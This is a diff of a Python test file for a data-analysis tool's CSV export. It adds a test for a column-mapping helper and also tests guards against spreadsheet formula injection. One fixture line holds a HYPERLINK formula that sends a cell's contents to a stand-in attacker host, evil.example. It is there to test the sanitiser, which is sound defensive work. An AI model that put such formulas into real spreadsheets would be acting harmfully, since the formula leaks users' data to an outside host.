@@ -15,7 +15,13 @@ from click.testing import CliRunner
 from openpyxl import load_workbook
 
 from chimeqda.cli import main
-from chimeqda.tabular import csv_cell, csv_safe, looks_like_formula, read_csv_table
+from chimeqda.tabular import (
+    csv_cell,
+    csv_safe,
+    looks_like_formula,
+    map_text_columns,
+    read_csv_table,
+)
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
 QUOTE = '=1+1 is what they told me, and @ the meeting I believed it.'
@@ -140,6 +146,16 @@ def test_csv_safe_keeps_numbers_and_quotes_text_index_and_headers():
     assert safe["'=x"].tolist()[:2] == ["'=1+1", "plain"] and pd.isna(safe["'=x"].iloc[2])
     assert safe["kappa"].tolist() == [-0.25, 0.5, 1.0]
     assert [csv_cell(v) for v in ("\tx", "\rx", -3, "a=b")] == ["'\tx", "'\rx", -3, "a=b"]
+
+
+def test_map_text_columns_maps_text_cells_of_a_copy_and_leaves_other_columns():
+    frame = pd.DataFrame([["a", 1, True, "b"], ["c", 2, False, "d"]], columns=["x", "n", "flag", "x"])
+    frame["when"] = pd.to_datetime(["2026-01-01", "2026-01-02"])
+    mapped = map_text_columns(frame, lambda v: f"<{v}>")
+    assert mapped.iloc[:, 0].tolist() == ["<a>", "<c>"] and mapped.iloc[:, 3].tolist() == ["<b>", "<d>"]
+    assert mapped["n"].tolist() == [1, 2] and mapped["flag"].tolist() == [True, False]
+    assert pd.api.types.is_datetime64_any_dtype(mapped["when"])
+    assert frame.iloc[:, 0].tolist() == ["a", "c"]  # the caller's frame is not changed
 
 
 def test_codebook_csv_round_trips_formula_like_text(tmp_path):
